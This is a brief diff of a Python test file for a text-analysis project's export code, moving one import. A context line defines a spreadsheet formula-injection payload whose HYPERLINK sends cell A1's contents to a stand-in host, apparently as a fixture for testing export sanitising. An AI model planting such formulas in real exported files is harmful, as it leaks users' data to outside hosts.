@@ -11,11 +11,11 @@ from pathlib import Path
 
 import pytest
 
-from rhetoric.analysis import analyze_all
 from rhetoric.corpus import Corpus, add_statement
 from rhetoric.errors import OutputError, UsageError
 from rhetoric.export import write as write_module
 from rhetoric.export.write import MANIFEST, excel_safe, verify_export, write_tables
+from rhetoric.session import analyze_all
 from tests.conftest import SEED_CORPUS
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
